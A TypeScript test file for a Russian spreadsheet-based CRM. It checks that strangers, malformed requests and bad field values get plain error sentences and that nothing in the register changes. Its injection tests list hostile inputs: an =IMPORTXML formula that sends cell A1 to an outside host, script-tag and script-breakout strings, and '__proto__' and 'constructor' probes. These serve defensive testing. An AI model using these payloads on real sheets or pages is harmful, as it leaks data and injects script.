/** What a page, a stranger or a clumsy hand may send: each time a clear sentence, and nothing in the register changes. */
import type * as v from 'valibot'
import type { World } from '../../emulator/world/types'
import { inputs, type Method } from '../../src/rpc/contract'
import {
  answerOf,
  belova,
  booked,
  bookInput,
  completeClient,
  createInput,
  deskWorld,
  done,
  morozova,
  phoned,
  refusal,
  request,
  run,
  sheet,
  slotOf,
} from '../fixtures/desk'
import { registerEqualsJournal, registerOf, rowById, rowsOf, standingIn } from '../fixtures/register'

const world = deskWorld()
const card = phoned(world, 'АНО «Маяк»')
const before = registerOf(world)
const methods = Object.keys(inputs) as Method[]
const reload = 'Обновите страницу и повторите; введённое останется в черновике.'

/** A value that the schema takes, as plain as can be. */
function plainInput(schema: v.GenericSchema, optional = false): unknown {
  const known = schema as unknown as {
    type: string
    entries?: Record<string, v.GenericSchema>
    options?: readonly unknown[]
    wrapped?: v.GenericSchema
    item?: v.GenericSchema
    literal?: unknown
    '~run': unknown
  }
  if (known.type === 'object') {
    const plain = Object.fromEntries(Object.entries(known.entries ?? {}).map(([key, entry]) => [key, plainInput(entry, optional)]))
    return optional || isTaken(schema, plain) ? plain : plainInput(schema, true)
  }
  if (known.type === 'variant') return plainInput(known.options?.[0] as v.GenericSchema)
  if (known.type === 'literal') return known.literal
  if (known.type === 'picklist') return known.options?.[0]
  if (known.type === 'array') return isTaken(schema, []) ? [] : [plainInput(known.item as v.GenericSchema)]
  if (known.type === 'record') return {}
  if (known.type === 'number') return [1, 2026].find((number) => isTaken(schema, number))
  if (known.type === 'boolean') return false
  if (known.type === 'nullable') return null
  if (known.type === 'optional') return optional && known.wrapped ? plainInput(known.wrapped) : undefined
  return ['', '2026-11-25', '2026-11-25T10:00', '2026-11', 'причина'].find((text) => isTaken(schema, text))
}

function isTaken(schema: v.GenericSchema, value: unknown): boolean {
  return schema['~run']({ value }, {}).issues === undefined
}

/** Runs on a fork and proves that nothing was written. */
function toldOf(method: string, input: unknown, user?: string) {
  const after = world.fork()
  const record = run(after, method, input, user)
  expect(registerOf(after)).toEqual(before)
  return answerOf<Method>(record) as Extract<ReturnType<typeof answerOf>, { ok: false }>
}

describe('a stranger gets a sentence, not data', () => {
  test.each(methods.filter((method) => method !== 'deal/current'))('%s', (method) => {
    expect(toldOf(method, plainInput(inputs[method]), 'stranger@example.org')).toMatchObject({
      ok: false,
      problem: { code: 'strangerCaller' },
      message:
        'Адреса stranger@example.org нет на листе «Сотрудники», поэтому данные не показаны. Попросите администратора внести вас и откройте панель снова.',
    })
  })

  test('deal/current, with the cursor on a deal', () => {
    const selection = { sheet: 'Сделки', row: card.ref.row ?? 0, column: 3 }
    const invocation = { ...request('deal/current', {}, 'stranger@example.org'), selection }
    expect(world.fork().invoke(invocation).value).toMatchObject({ ok: false, problem: { code: 'strangerCaller' } })
    const own = { ...request('deal/current', {}), selection }
    expect(world.fork().invoke(own).value).toMatchObject({ ok: true, value: { deal: { id: card.deal.id } } })
    expect(world.fork().invoke({ ...own, selection: { ...selection, row: 1 } }).value).toMatchObject({ ok: true, value: null })
  })

  test('nor does the sidebar hold anything for him', () => {
    const data = pageData(world.fork(), 'stranger@example.org')
    expect(data).toContain('поэтому данные не показаны')
    expect(data).not.toContain('Маяк')
    expect(data).not.toContain('Титова')
  })
})

/** What the page got inside itself, as text. */
function pageData(of: World, user?: string): string {
  const { ui } = of.invoke({ fn: 'showSidebar', entry: 'menu', user: user ?? 'office@example.org' })
  const html = ui.map((effect) => ('html' in effect ? effect.html : '')).join('')
  return /id="desk-data">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? ''
}

describe('a request that no page of ours makes', () => {
  test.each([
    ['an unknown method', 'deal/delete', {}, `«запрос страницы», «method»: нет действия «deal/delete». ${reload}`],
    ['a method of every object', 'constructor', {}, `«запрос страницы», «method»: нет действия «constructor». ${reload}`],
    ['__proto__ as the method', '__proto__', {}, `«запрос страницы», «method»: нет действия «__proto__». ${reload}`],
    ['no input', 'deal/search', null, `«запрос страницы»: страница прислала не то, что нужно (пусто). ${reload}`],
    ['a number for a text', 'deal/search', { text: 5 }, `«запрос страницы», «text»: страница прислала не то, что нужно (5). ${reload}`],
    [
      'a deal without a version',
      'deal/note',
      { deal: { id: 1, row: null, clientId: null }, outcome: 'reached', text: '' },
      `«запрос страницы», «deal.version»: страница прислала не то, что нужно (undefined). ${reload}`,
    ],
    ['a negative number', 'deal/history', { id: -1 }, `«запрос страницы», «id»: страница прислала не то, что нужно (-1). ${reload}`],
    [
      'a stage that does not exist',
      'deal/move',
      { deal: card.ref, to: 'deleted', reason: '', fields: {} },
      `«запрос страницы», «to»: страница прислала не то, что нужно (deleted). ${reload}`,
    ],
    [
      'a text of 60 001 signs',
      'deal/search',
      { text: 'я'.repeat(60_001) },
      '«запрос страницы», «text»: слишком длинный текст, помещается не больше 60000 знаков. Сократите его и повторите.',
    ],
  ])('%s', (_, method, input, sentence) => {
    expect(toldOf(method, input)).toMatchObject({ ok: false, message: sentence, problem: null, retry: false })
  })

  test('no argument at all', () => {
    const record = world.fork().invoke({ fn: 'rpc', entry: 'rpc', user: 'office@example.org', args: [null] })
    expect(record.value).toMatchObject({ ok: false, message: `«запрос страницы», «method»: нет действия «undefined». ${reload}` })
  })

  test('__proto__ and unknown members in the input are dropped', () => {
    const after = world.fork()
    const input = JSON.parse(
      `{"deal": ${JSON.stringify(card.ref)}, "fields": {"__proto__": {"stage": "won"}, "stage": "won", "topic": 5}}`,
    ) as never
    done(after, 'deal/fill', input)
    expect(rowById(after, 'Сделки', card.deal.id)).toMatchObject({ Этап: 'Принято в работу', Тема: 'Привлечение ресурсов' })
    registerEqualsJournal(after)
  })
})

describe('a value that the office cannot take', () => {
  test.each([
    [
      'I4: letters for a phone',
      'deal/create',
      createInput({ client: { ...completeClient, phone: 'спросить у Анны' } }),
      '«спросить у Анны» не читается как телефон (I4). Напишите номер с кодом, например +7 911 416-01-23 или 8 (8182) 65-43-21.',
    ],
    [
      'I4: letters for a phone, later',
      'client/fill',
      { deal: card.ref, fields: { phone: 'нет' } },
      '«нет» не читается как телефон (I4). Напишите номер с кодом, например +7 911 416-01-23 или 8 (8182) 65-43-21.',
    ],
    [
      'I4: an empty client card',
      'deal/create',
      createInput({ client: { ...completeClient, phone: '', email: '' } }),
      'Не заполнено: Телефон (карточка клиента), E-mail (карточка клиента). Без этого сделка не переходит на этап «Принято в работу» (I4). Заполните и повторите.',
    ],
    [
      'more than a cell of the card holds',
      'deal/fill',
      { deal: card.ref, fields: { content: 'я'.repeat(50_001) } },
      '«Содержание»: 50001 знак, а помещается 10000. Сократите текст или приложите его файлом.',
    ],
    [
      'C7: a project that is not in «Проекты»',
      'deal/fill',
      { deal: card.ref, fields: { project: 'Марс' } },
      '«Проект»: «Марс» нет на листе «Проекты» (C7). Исправьте и повторите.',
    ],
    [
      'a day of work for one consultation',
      'deal/fill',
      { deal: card.ref, fields: { minutes: 721 } },
      '«Продолжительность, мин»: нужно число от 5 до 480. Исправьте и повторите.',
    ],
    [
      'a deal that does not exist',
      'deal/open',
      { id: 999_999, row: null, clientId: null },
      'Сделки № 999999 нет на листе «Сделки» и в архиве: возможно, удалили строку. Найдите её поиском.',
    ],
    [
      'I7: «не дозвонились» without attempts',
      'deal/move',
      { deal: card.ref, to: 'lost', reason: 'не дозвонились', fields: {} },
      'Сделано попыток: 0, а нужно 3, и только потом «Неуспешные» с причиной «не дозвонились» (I7). Позвоните ещё раз и отметьте звонок.',
    ],
  ])('%s', (_, method, input, sentence) => {
    expect(toldOf(method, input)).toMatchObject({ ok: false, message: sentence })
  })

  test('comments do not outgrow their cell: the oldest lines go, the journal keeps them', () => {
    const after = world.fork()
    const long = 'я'.repeat(8_000)
    const noted = done(after, 'deal/note', { deal: card.ref, outcome: 'reached', text: long })
    const { deal } = done(after, 'deal/note', { deal: noted.ref, outcome: 'reached', text: `второй ${long}` })
    expect(deal.comments.length).toBeLessThanOrEqual(10_000)
    expect(deal.comments).toContain('второй')
    expect(rowsOf(after, 'Журнал').filter(({ cells }) => cells['Причина'] === long)).toHaveLength(1)
    registerEqualsJournal(after)
  })
})

describe('T1, C1: who may do what', () => {
  test("a consultant does not change another's deal", () => {
    const after = world.fork()
    const { ref } = booked(after, 'Фонд «Север»')
    const standing = registerOf(after)
    expect(refusal(after, 'deal/fill', { deal: ref, fields: { content: 'чужое' } }, belova)).toBe(
      'Ваша роль (консультант) не позволяет: заполнять карточку другого консультанта. Попросите офис-менеджера или директора; роли записаны на листе «Сотрудники».',
    )
    expect(registerOf(after)).toEqual(standing)
    expect(done(after, 'deal/fill', { deal: ref, fields: { content: 'своё' } }, morozova).deal.content).toBe('своё')
  })

  test.each([
    ['week/close', { deals: [] }, 'закрывать неделю'],
    ['month/report', { month: '2026-10' }, 'формировать отчёт'],
    ['import/apply', { kind: 'staff', table: { fileName: 'a.csv', headings: [], rows: [] } }, 'загружать данные о сотрудниках и проектах'],
  ])('a consultant may not: %s', (method, input, action) => {
    expect(toldOf(method, input, belova).message).toBe(
      `Ваша роль (консультант) не позволяет: ${action}. Попросите офис-менеджера или директора; роли записаны на листе «Сотрудники».`,
    )
  })
})

describe('text stays text', () => {
  const dangerous = [
    '=IMPORTXML("https://example.org?"&A1;"//a")',
    '+7 911',
    '@SUM(A1)',
    '-1-2',
    '<script>alert(1)</script>',
    '${1}',
    "'",
    'a\u2028b',
    '01234',
    '1-2',
  ]

  test.each(dangerous)('%s is kept as typed, never a formula, a number or a date', (text) => {
    const after = world.fork()
    const { deal } = done(
      after,
      'deal/create',
      createInput({ request: text, client: { ...completeClient, organisation: text, messenger: text } }),
    )
    expect(deal).toMatchObject({ request: text, organisation: text })
    expect(rowById(after, 'Сделки', deal.id)).toMatchObject({ Запрос: text, Организация: text })
    const formulas = ['Сделки', 'Клиенты', 'Журнал', 'Контроль'].flatMap((title) => sheet(after, title).cells.flatMap((row) => row ?? []))
    expect(formulas.filter((cell) => typeof cell === 'object' && cell !== null && 'f' in cell)).toEqual([])
    registerEqualsJournal(after)
  })

  test('the page that shows it ends no script element', () => {
    const after = world.fork()
    const { ref } = done(after, 'deal/create', createInput({ client: { ...completeClient, organisation: '</script><script>alert(1)' } }))
    done(after, 'deal/book', bookInput({ ...card, ref }, slotOf(after)))
    const data = pageData(after)
    expect(data).toContain('u003c/script>')
    expect(JSON.stringify(JSON.parse(data))).toContain('</script><script>alert(1)')
  })

  test('the month report keeps an organisation and a comment that look like formulas as text', () => {
    const after = world.fork()
    const { ref } = done(after, 'deal/create', createInput({ client: { ...completeClient, municipality: '=1+1' } }))
    const slot = slotOf(after)
    const booking = done(after, 'deal/book', bookInput({ ...card, ref }, slot)).card
    after.state.now = Date.parse('2026-11-30T18:00:00+03:00')
    const fields = { content: 'а', recommendations: 'б', minutes: 60, project: 'не распределено' }
    done(after, 'deal/move', { deal: booking.ref, to: 'held', reason: '', fields })
    done(after, 'month/report', { month: '2026-11' })
    const cellsIn = (title: string) => sheet(after, title).cells.flatMap((row) => row ?? [])
    for (const title of ['Отчёт 2026-11', 'Список 2026-11']) expect(cellsIn(title).map(standingIn)).toContain('=1+1')
    const formulas = ['Отчёт 2026-11', 'Список 2026-11']
      .flatMap(cellsIn)
      .filter((cell) => typeof cell === 'object' && cell !== null && 'f' in cell)
    expect(formulas).toMatchObject([{ f: '=HYPERLINK("#gid=1000402611&range=A1";"Список консультаций (2026-11)")' }])
  })
})

test('the request itself is left as it was by all of this', () => {
  expect(registerOf(world)).toEqual(before)
  expect(answerOf<'deal/open'>(world.invoke(request('deal/open', { id: card.deal.id, row: null, clientId: null }))).ok).toBe(true)
})
